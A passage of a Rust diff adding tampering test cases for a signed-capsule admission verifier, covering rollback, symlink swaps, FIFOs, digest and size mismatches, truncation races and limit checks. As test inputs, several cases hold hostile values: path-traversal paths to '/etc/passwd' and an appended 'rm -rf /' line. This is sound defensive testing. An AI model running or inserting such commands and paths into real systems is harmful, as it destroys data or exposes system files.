+            let prior = w.capsule(&format!("{n}-prior"), &newer, Signer::Es256);
+            Setup {
+                prior: Prior::Admitted(prior),
+                ..plain(w.good_capsule(n, Signer::Es256))
+            }
+        },
+    },
+    Case {
+        name: "same-version-other-bytes",
+        reason: Reason::Rollback,
+        build: |w, n| {
+            let mut first = w.manifest();
+            first["env"]["EXTRA"] = json!("1");
+            let prior = w.capsule(&format!("{n}-prior"), &first, Signer::Es256);
+            Setup {
+                prior: Prior::Admitted(prior),
+                ..plain(w.good_capsule(n, Signer::Es256))
+            }
+        },
+    },
+    Case {
+        name: "artifact-path-traversal",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["artifacts"][0]["path"] = json!("../../etc/passwd")
+            })
+        },
+    },
+    Case {
+        name: "artifact-absolute-path",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| with_manifest(w, n, |m| m["artifacts"][0]["path"] = json!("/etc/passwd")),
+    },
+    Case {
+        name: "artifact-symlink-swap",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let decoy = w.write(&format!("{n}-decoy/run.sh"), crate::RUN_SH);
+            fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
+            symlink(decoy, s.capsule.join("files/run.sh")).expect("symlink");
+            s
+        },
+    },
+    Case {
+        name: "artifact-symlinked-directory",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let decoy = w.path(&format!("{n}-decoy-tools"));
+            fs::create_dir_all(&decoy).expect("mkdir");
+            fs::write(decoy.join("busybox"), crate::TOOL_BYTES).expect("write");
+            fs::remove_dir_all(s.capsule.join("files/tools")).expect("rm");
+            symlink(decoy, s.capsule.join("files/tools")).expect("symlink");
+            s
+        },
+    },
+    Case {
+        name: "artifact-is-a-fifo",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let p = s.capsule.join("files/run.sh");
+            fs::remove_file(&p).expect("rm");
+            let status = std::process::Command::new("mkfifo")
+                .arg(&p)
+                .status()
+                .expect("mkfifo (coreutils)");
+            assert!(status.success());
+            s
+        },
+    },
+    Case {
+        name: "artifact-missing",
+        reason: Reason::ArtifactMissing,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
+            s
+        },
+    },
+    Case {
+        name: "artifact-grown",
+        reason: Reason::ArtifactSizeMismatch,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            fs::write(
+                s.capsule.join("files/run.sh"),
+                [crate::RUN_SH, b"rm -rf /\n"].concat(),
+            )
+            .expect("write");
+            s
+        },
+    },
+    Case {
+        name: "artifact-same-size-other-bytes",
+        reason: Reason::DigestMismatch,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let mut evil = crate::RUN_SH.to_vec();
+            evil[12] ^= 0x20;
+            fs::write(s.capsule.join("files/run.sh"), evil).expect("write");
+            s
+        },
+    },
+    Case {
+        name: "artifact-truncated-while-hashed",
+        reason: Reason::ArtifactChanged,
+        build: |w, n| {
+            let big = big_artifact();
+            let mut m = w.manifest();
+            m["artifacts"] =
+                json!([{"path": "big.bin", "sha256": sha256_hex(&big), "size": big.len()}]);
+            let s = plain(w.capsule(n, &m, Signer::Es256));
+            fs::write(s.capsule.join("files/big.bin"), &big).expect("write");
+            Setup {
+                prior: Prior::TruncatedWhileHashing(PathBuf::from("files/big.bin")),
+                ..s
+            }
+        },
+    },
+    Case {
+        name: "oversized-jws",
+        reason: Reason::LimitExceeded,
+        build: |w, n| with_manifest(w, n, |m| m["env"]["PAD"] = json!("x".repeat(70_000))),
+    },
+    Case {
+        name: "too-many-artifacts",
+        reason: Reason::LimitExceeded,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                let many: Vec<Value> = (0..20)
+                    .map(|i| json!({"path": format!("a{i}"), "sha256": "00".repeat(32), "size": 1}))
+                    .collect();
+                m["artifacts"] = json!(many);
+            })
+        },
+    },
+    Case {
+        name: "timeout-beyond-policy",
+        reason: Reason::LimitExceeded,
+        build: |w, n| with_manifest(w, n, |m| m["limits"]["timeout_ms"] = json!(86_400_000u64)),
+    },
+    Case {
+        name: "state-unreadable",
+        reason: Reason::StateUnavailable,
+        build: |w, n| Setup {
+            prior: Prior::CorruptState,
+            ..plain(w.good_capsule(n, Signer::Es256))
+        },
+    },
 ];
 
 /// Size of the artifact truncated while it is hashed: large enough that hashing
@@ -363,7 +754,9 @@ pub const CASES: &[Case] = &[
 pub const BIG_ARTIFACT_BYTES: usize = 256 << 20;
 
 pub fn big_artifact() -> Vec<u8> {
-    (0..BIG_ARTIFACT_BYTES).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect()
+    (0..BIG_ARTIFACT_BYTES)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13).to_le_bytes()[0])
+        .collect()
 }
 
 /// The name of the redb file inside a `--state` directory (shared with the gateway).
@@ -374,7 +767,11 @@ pub const STATE_FILE: &str = "rollback.redb";
 /// `artifact_changed` (a truncation that lands before the size check gives
 /// `artifact_size_mismatch`, one after the hash an admission: both are retried with
 /// another delay). Returns every reason seen, last one last.
-pub fn truncate_while<T>(file: &std::path::Path, mut attempt: impl FnMut() -> T, reason_of: impl Fn(&T) -> Option<Reason>) -> Vec<Option<Reason>> {
+pub fn truncate_while<T>(
+    file: &std::path::Path,
+    mut attempt: impl FnMut() -> T,
+    reason_of: impl Fn(&T) -> Option<Reason>,
+) -> Vec<Option<Reason>> {
     let original = big_artifact();
     let mut seen = Vec::new();
     for delay_ms in [5u64, 15, 30, 50, 80, 120, 2, 10, 20, 40, 60, 100] {
@@ -382,8 +779,12 @@ pub fn truncate_while<T>(file: &std::path::Path, mut attempt: impl FnMut() -> T,
         let path = file.to_path_buf();
         let cutter = std::thread::spawn(move || {
             std::thread::sleep(std::time::Duration::from_millis(delay_ms));
-            let f = fs::OpenOptions::new().write(true).open(&path).expect("open to truncate");
-            f.set_len((BIG_ARTIFACT_BYTES / 2) as u64).expect("truncate");
+            let f = fs::OpenOptions::new()
+                .write(true)
+                .open(&path)
+                .expect("open to truncate");
+            f.set_len((BIG_ARTIFACT_BYTES / 2) as u64)
+                .expect("truncate");
         });
         let outcome = attempt();
         cutter.join().expect("cutter thread");
